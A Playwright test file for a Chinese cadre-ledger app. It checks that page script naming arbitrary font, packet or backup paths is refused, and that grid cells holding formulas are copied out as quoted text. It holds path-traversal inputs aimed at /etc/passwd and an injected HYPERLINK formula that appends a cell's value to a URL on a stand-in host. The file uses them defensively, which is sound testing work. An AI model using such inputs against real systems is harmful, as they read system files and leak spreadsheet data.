// What the window may name on disk (issue 11), in Chromium against the real backend through the browser host:
// in 设置 → 公文字体 the secretary chooses a font file from a list (a file she copied into the ledger's font
// folder), it is used, and 保存设置 works again and again; the 考核 packet goes into the folder beside the
// ledger; a page that names /etc or ../ for a font, a packet or a backup folder is refused in Chinese and
// nothing is written. And a formula cell copied from a grid reads as text in Excel (a leading apostrophe) and
// pasted back into the grid is the same text, without the apostrophe.
import { expect, test, type Page } from '@playwright/test';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fontDirFor } from '../../electron/services/paths';
import { bundledFontsDir } from '../../electron/services/settings';
import { ARTIFACTS } from './support/host';
import { cell, gridLedger, nav } from './support/ledger';

const FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点此查看")';

// 张三 (title a formula, as a hostile workbook could leave it), 李四 and 王五 of 机械学院; preset 002 and a record
// each, for a small 考核 packet.
const l = gridLedger(
  '机械学院',
  [
    ['张三', '院长'],
    ['李四', '副院长'],
    ['王五', '党委书记'],
  ],
  async ({ ok }, { typeId, cadreIds }) => {
    await ok('cadres.update', { id: cadreIds[0], patch: { title: FORMULA } });
    await ok('rules.applyPreset', { presetId: '002', year: 2026 });
    for (const id of cadreIds)
      await ok('records.create', { date: '2026-04-09', activityTypeId: typeId, cadreIds: [id], place: '机械学院' });
  },
);

/** A call the page itself makes, as script in it could: the answer the browser host gives. */
async function fromPage(
  page: Page,
  method: string,
  input: unknown,
): Promise<{ ok: boolean; error?: { message: string } }> {
  return page.evaluate(
    async ([m, i]) => {
      const r = await fetch(`/api/${m}`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-Ledger-Request': '1' },
        credentials: 'same-origin',
        body: JSON.stringify(i),
      });
      return r.json();
    },
    [method, input] as const,
  );
}

test('设置 → 公文字体: a font copied into the ledger’s font folder is chosen from the list, used, and saved again', async ({
  page,
}) => {
  const folder = fontDirFor(l.t.dbPath);
  mkdirSync(folder, { recursive: true });
  const mine = join(folder, '我的仿宋.otf');
  copyFileSync(join(bundledFontsDir(), 'FandolFang-Regular.otf'), mine);
  await page.goto(l.t.host.openUrl);
  await nav(page, '设置').click();
  await page.getByRole('tab', { name: '公文字体' }).click();
  await expect(page.getByTestId('font-folder')).toContainText(folder);
  const pick = page.getByRole('combobox', { name: '仿宋字体文件' });
  await expect(pick.locator('option', { hasText: '我的仿宋.otf' })).toHaveCount(1);
  await pick.selectOption({ label: '我的仿宋.otf（本台账字体文件夹）' });
  await page.getByRole('button', { name: '保存设置' }).click();
  await expect(page.getByTestId('notice')).toContainText('设置已保存');
  await expect(page.getByTestId('font-fangsong')).toContainText('（指定文件）');
  await expect(page.getByTestId('font-fangsong')).toContainText(mine);
  await page.screenshot({ path: join(ARTIFACTS, 'settings-fonts-choice.png') });
  const stored = () =>
    l.sql<{ value: string }>("SELECT value FROM settings WHERE key = 'fonts'").map((r) => JSON.parse(r.value));
  expect(stored()).toEqual([{ fangsong: mine }]);

  // 本单位 saved twice (every value is sent, the chosen font among them): both kept.
  await page.getByRole('tab', { name: '本单位' }).click();
  for (const name of ['甲大学', '乙大学']) {
    await page.getByLabel('单位名称').fill(name);
    await page.getByRole('button', { name: '保存设置' }).click();
    await expect(page.getByTestId('notice')).toContainText('设置已保存');
    expect(l.sql<{ value: string }>("SELECT value FROM settings WHERE key = 'institution'")[0]!.value).toBe(
      JSON.stringify(name),
    );
  }
  expect(stored()).toEqual([{ fangsong: mine }]);

  // Script in the page naming another file: refused in Chinese, the setting unchanged.
  for (const p of ['/etc/passwd', '../../../../etc/passwd']) {
    const r = await fromPage(page, 'settings.set', { fonts: { fangsong: p } });
    expect(r.ok).toBe(false);
    expect(r.error!.message).toContain('字体文件只能从“设置 → 公文字体”列出的文件中选择');
    expect(r.error!.message).toContain('未作任何改动');
  }
  expect(stored()).toEqual([{ fangsong: mine }]);
});

test('公文 → 考核 → 生成考核材料包 writes beside the ledger; a page naming another folder is refused', async ({
  page,
}) => {
  test.setTimeout(180_000);
  await page.goto(l.t.host.openUrl);
  await nav(page, '公文').click();
  const el = page.getByTestId('documents-page');
  await el.locator('select').first().selectOption('考核');
  await el.getByTestId('packet-button').click();
  const notice = page.getByText(
    /已生成 2026 年度考核材料包：\d+ 个 PDF 文件、共 \d+ 页，另有台账和清单，保存在“(.+)”。/,
  );
  await expect(notice).toBeVisible({ timeout: 150_000 });
  const dir = /保存在“(.+)”。/.exec((await notice.textContent())!)![1]!;
  expect(dirname(dir)).toBe(join(dirname(l.t.dbPath), 'ledger.sqlite.packets'));
  expect(readdirSync(dir)).toContain('清单.txt');

  const elsewhere = mkdtempSync(join(tmpdir(), 'ledger-e2e-elsewhere-'));
  const target = join(elsewhere, 'packet');
  for (const [method, input] of [
    ['documents.packet', { year: 2026, dir: target }],
    ['jobs.start', { method: 'documents.packet', input: { year: 2026, dir: `${target}/../../etc` } }],
    ['backups.create', { dir: elsewhere }],
  ] as const) {
    const r = await fromPage(page, method, input);
    expect(r.ok, method).toBe(false);
    expect(r.error!.message).toMatch(/^在程序窗口中不能指定这个文件或文件夹：.+未作任何改动。/);
  }
  expect(existsSync(target)).toBe(false);
  expect(readdirSync(elsewhere)).toEqual([]);
});

test('a formula cell copied from the grid is text for Excel; pasted over another cell it is the same text', async ({
  page,
}) => {
  await page.goto(l.t.host.openUrl);
  await nav(page, '人员与单位').click();
  await expect(cell(page, 'cadre-grid', 0, 'title')).toHaveText(FORMULA);
  await cell(page, 'cadre-grid', 0, 'title').click();
  await page.keyboard.press('Control+C');
  await expect(page.getByTestId('notice')).toContainText('已复制');
  // What Excel or WPS receives: the formula behind an apostrophe (the cell quoted, as it holds quotes), in the
  // text and in the HTML table.
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`"'${FORMULA.replace(/"/g, '""')}"\r\n`);
  const html = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    return (await item!.getType('text/html')).text();
  });
  expect(html).toContain("'=HYPERLINK");
  // Pasted over 李四's 职务 (overwrite chosen, previewed, confirmed): the formula's text, no apostrophe.
  await cell(page, 'cadre-grid', 1, 'title').click();
  await page.keyboard.press('Control+Shift+V');
  const preview = page.getByTestId('overwrite-preview');
  await expect(preview.locator('td.new').first()).toHaveText(FORMULA);
  await page.getByTestId('overwrite-confirm').click();
  await expect(cell(page, 'cadre-grid', 1, 'title')).toHaveText(FORMULA);
  expect(l.sql<{ title: string }>("SELECT title FROM cadres WHERE name = '李四'")).toEqual([{ title: FORMULA }]);
  await page.screenshot({ path: join(ARTIFACTS, 'paste-formula-back.png') });
});
